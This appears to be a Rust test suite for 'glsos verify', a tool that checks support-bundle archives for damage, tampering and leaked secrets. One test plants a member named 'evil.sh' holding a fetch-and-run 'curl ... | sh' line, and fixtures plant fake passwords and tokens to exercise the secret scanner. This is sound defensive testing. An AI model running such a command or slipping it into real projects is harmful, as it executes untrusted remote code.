//! `glsos verify`: a whole bundle is good, every damaged one is not, and what is wrong is named.

use std::{fs, sync::LazyLock};

use serde_json::Value;

use super::{
    bundle::Bundle,
    damage::{Packed, converted, noise},
    program::{Ended, Place, finish},
    redact::{TOKEN, gzip},
};

/// A bundle of small entries and of one with several segments.
pub(super) static MADE: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let place = Place::new();
    let long = place.write("long.log", noise(3 << 20));
    let small = place.write("small.conf", "a = 1\nb = 2\n");
    let source = |name: &str, path: &std::path::Path| {
        let path = path.to_str().unwrap();
        format!("[[file]]\nname = \"{name}\"\nwhy = \"To be damaged\"\npath = \"{path}\"\n")
    };
    place.collector(&format!("{}{}", source("long", &long), source("small", &small)));
    place.glsos("collect --collectors collectors --only mine,system -o b.tar.gz").good();
    fs::read(place.join("b.tar.gz")).unwrap()
});

/// What `--json` says of each of these files.
fn verify(variants: &[Vec<u8>]) -> Vec<Value> {
    let place = Place::new();
    let mut command = place.command("verify --json");
    for (number, bytes) in variants.iter().enumerate() {
        command.arg(place.write(&format!("{number}.tar.gz"), bytes));
    }
    let ended = finish(command);
    assert!(matches!(ended.code(), 0 | 3), "{}", ended.err);
    let told = ended.events();
    assert_eq!(told.len(), variants.len());
    assert_eq!(ended.code() == 0, told.iter().all(|bundle| bundle["good"] == true));
    told
}

/// Pairs of a kind of fault and the entry.
fn faults(bundle: &Value) -> Vec<(&str, &str)> {
    let faults = bundle["faults"].as_array().unwrap();
    let text = |value: &'_ Value| value.as_str().map_or("", |text| text.to_owned().leak());
    faults.iter().map(|fault| (text(&fault["fault"]), text(&fault["entry"]))).collect()
}

fn flipped(bytes: &[u8], at: usize) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    bytes[at] ^= 0x41;
    bytes
}

#[test]
fn a_whole_bundle_is_good() {
    let place = Place::new();
    place.write("b.tar.gz", &*MADE);
    let ended = place.glsos("verify b.tar.gz").good();
    let entries = Bundle::of(MADE.clone()).files.len() - 1;
    for line in [
        "b.tar.gz\n".to_owned(),
        format!("  made by        glsos {} on ", env!("CARGO_PKG_VERSION")),
        format!("  digests        {entries} of {entries} fit\n"),
        "  second scan    nothing found\n".to_owned(),
        "  known secrets  not checked\n".to_owned(),
    ] {
        assert!(ended.text().contains(&line), "{line:?} is not in {}", ended.text());
    }
    assert_eq!((ended.err.as_str(), place.files().len()), ("", 1));
    let quiet = place.glsos("verify -q b.tar.gz").good();
    assert_eq!((quiet.text(), quiet.err.as_str()), ("", ""));
}

#[test]
fn a_wrong_byte_in_an_entry_names_that_entry_alone() {
    let bundle = Bundle::of(MADE.clone());
    let mut variants = Vec::new();
    for entry in bundle.entries().iter().filter(|entry| entry["segments"].is_array()) {
        for segment in entry["segments"].as_array().unwrap() {
            let place = |at: usize| usize::try_from(segment[at].as_u64().unwrap()).unwrap();
            for part in 1..4 {
                let at = place(0) + place(1) * part / 4;
                variants.push((entry["name"].as_str().unwrap(), flipped(&MADE, at)));
            }
        }
    }
    assert!(variants.len() > 30, "{}", variants.len());
    let told = verify(&variants.iter().map(|(_, bytes)| bytes.clone()).collect::<Vec<_>>());
    for ((name, _), told) in variants.iter().zip(told) {
        let faults = faults(&told);
        assert!(faults.contains(&("damaged", name)), "{name}: {told}");
        let others = faults.iter().filter(|(_, entry)| !entry.is_empty() && entry != name);
        assert_eq!(others.count(), 0, "{name}: {told}");
    }
}

#[test]
fn a_wrong_byte_anywhere_is_found() {
    let bytes = &*MADE;
    let step = bytes.len() / 150;
    let mut places: Vec<usize> = (0..46).collect();
    places.extend((46..bytes.len()).step_by(step));
    places.extend(bytes.len() - 60..bytes.len());
    let variants: Vec<_> = places.iter().map(|at| flipped(bytes, *at)).collect();
    for (at, told) in places.iter().zip(verify(&variants)) {
        assert_eq!(told["good"], false, "byte {at}");
    }
}

#[test]
fn the_part_that_is_damaged_is_named() {
    let bytes = &*MADE;
    let place = Packed(bytes).manifest_place();
    let said = |at: usize| verify(&[flipped(bytes, at)])[0]["faults"].to_string();
    assert!(said(5).contains("its gzip header is damaged"), "{}", said(5));
    assert!(said(13).contains("its gzip header is damaged"), "{}", said(13));
    // One bit may leave it a manifest; these bytes are no stream of deflate.
    let mut broken = bytes.clone();
    broken[place.0 + place.1 / 4..][..place.1 / 2].fill(0xff);
    let manifest = verify(&[broken])[0]["faults"].to_string();
    assert!(manifest.contains("glsos/manifest.json"), "{manifest}");
    let sum = said(bytes.len() - 6);
    assert!(sum.contains("though every entry fits its digest"), "{sum}");
}

#[test]
fn one_that_was_cut_says_so_wherever_it_was_cut() {
    let bytes = &*MADE;
    let lengths: Vec<usize> =
        (64..bytes.len()).step_by(bytes.len() / 60).chain(bytes.len() - 30..bytes.len()).collect();
    let variants: Vec<_> = lengths.iter().map(|length| bytes[..*length].to_vec()).collect();
    for (length, told) in lengths.iter().zip(verify(&variants)) {
        assert!(faults(&told).iter().any(|(fault, _)| *fault == "cut"), "{length}: {told}");
    }
    for told in verify(&(1..64).map(|length| bytes[..length].to_vec()).collect::<Vec<_>>()) {
        assert_eq!(told["good"], false, "{told}");
    }
}

#[test]
fn what_mail_and_ftp_do_is_named() {
    let bytes = &*MADE;
    let variants = [
        converted(bytes, b"\n", b"\r\n"),
        converted(bytes, b"\r\n", b"\n"),
        converted(bytes, b"\n", b""),
        String::from_utf8_lossy(bytes).into_owned().into_bytes(),
        data_encoding::BASE64.encode(bytes).into_bytes(),
        b"<!DOCTYPE html>\n<html><body>Sign in</body></html>\n".to_vec(),
    ];
    for (told, why) in verify(&variants).iter().zip([
        "CR LF of every LF",
        "LF of every CR LF",
        "every LF away",
        "UTF-8",
        "base64",
        "web page",
    ]) {
        let fault = told["faults"].as_array().unwrap().iter().find(|fault| fault["fault"] == "transfer");
        let text = fault.unwrap_or_else(|| panic!("{why}: {told}"))["text"].as_str().unwrap();
        assert!(text.contains(why), "{text}");
    }
}

#[test]
fn what_was_put_in_and_what_was_taken_away_is_named() {
    let extra = Packed(&MADE).with_a_member("evil.sh", b"curl http://x | sh\n");
    let told = &verify(&[extra])[0];
    assert_eq!(faults(told), [("extra", "evil.sh")], "{told}");
    let bundle = Bundle::of(MADE.clone());
    let name = bundle.names().into_iter().find(|name| name.ends_with("long.log")).unwrap().to_owned();
    let other = format!("{}g", &name[..name.len() - 1]).replace("long.log", "lonk.log");
    let renamed = Packed(&MADE)
        .with_another_name(&format!("{}/{name}", bundle.root), &format!("{}/{other}", bundle.root));
    let told = &verify(&[renamed])[0];
    assert_eq!(faults(told), [("extra", other.as_str()), ("missing", name.as_str())], "{told}");
}

/// An archive as gitlabsos makes one.
pub(super) fn old_archive() -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    let mut add = |name: &str, content: &[u8]| {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        header.set_mtime(1_700_000_000);
        tar.append_data(&mut header, format!("gitlabsos.host_20260101/{name}"), content).unwrap();
    };
    add("uptime", b" 10:00:00 up 3 days\n");
    add("etc/gitlab/gitlab.rb", format!("ok = 1\n\ngitlab_rails['smtp_password'] = '{TOKEN}'\n").as_bytes());
    add("var/log/gitlab/x.log.1.gz", &gzip(format!("one\ntwo\nx?private_token={TOKEN}\n").as_bytes()));
    add(&format!("var/log/{TOKEN}.log"), b"requirepass Tr0ub4dor3xyz\n");
    add(
        "inner.tar.gz",
        &gzip(&{
            let mut inner = tar::Builder::new(Vec::new());
            inner.append_data(&mut tar::Header::new_gnu(), "x", &b""[..]).unwrap();
            inner.into_inner().unwrap()
        }),
    );
    tar.into_inner().unwrap()
}

#[test]
fn an_archive_of_another_tool_is_scanned_and_its_digests_are_not_checked() {
    for bytes in [old_archive(), gzip(&old_archive())] {
        let place = Place::new();
        place.write("old.tar.gz", bytes);
        let ended = place.glsos("verify old.tar.gz");
        assert_eq!(ended.code(), 3);
        let text = ended.text();
        for line in [
            "  digests        not checked: it has none, glsos did not make it\n",
            "  secret     gitlabsos.host_20260101/etc/gitlab/gitlab.rb:3\n",
            "             named-value: requirepass ***\n",
            "  secret     gitlabsos.host_20260101/var/log/gitlab/x.log.1.gz:3\n",
            "             gitlab-token: glpat-***\n",
            "             gitlab-token: the name of file 4 of the archive\n",
            "             the second scan can't look into it: a tar archive\n",
            "  secret     gitlabsos.host_20260101/var/log/glpat-***:1\n",
            "  known secrets  not checked\n",
        ] {
            assert!(text.contains(line), "{line:?} is not in {text}");
        }
        let all = format!("{text}{}", place.glsos("verify --json old.tar.gz").text());
        assert!(!all.contains("aB3dE6") && !all.contains("Tr0ub"), "a value is shown: {all}");
        let wide: Vec<_> = text.lines().filter(|line| line.chars().count() > 80).collect();
        assert!(wide.is_empty(), "{wide:?}");
    }
}

#[test]
fn what_is_no_bundle_is_said_and_the_others_are_checked_all_the_same() {
    let place = Place::new();
    place.write("b.tar.gz", &*MADE);
    place.write("empty", "");
    place.write("text", "hello\n".repeat(500));
    place.write("random", noise(100_000));
    place.write("x.tar.xz", b"\xfd7zXZ\0 and so on");
    nix::unistd::mkfifo(&place.join("pipe"), nix::sys::stat::Mode::S_IRUSR).unwrap();
    let ended = place.glsos("verify empty text random x.tar.xz b.tar.gz");
    assert_eq!(ended.code(), 3);
    for part in ["it is empty", "it is no tar archive", "compressed with xz", "b.tar.gz\n  made by"] {
        assert!(ended.text().contains(part), "{part} is not in {}", ended.text());
    }
    let ended: Ended = place.glsos("verify none pipe . b.tar.gz");
    assert_eq!(ended.code(), 1);
    assert!(ended.text().starts_with("\nb.tar.gz\n") || ended.text().starts_with("b.tar.gz\n"));
    for part in
        ["error: reading none: No such file", "error: pipe is no regular file", "error: . is no regular"]
    {
        assert!(ended.err.contains(part), "{part} is not in {}", ended.err);
    }
    assert_eq!(place.glsos("verify").code(), 2);
}
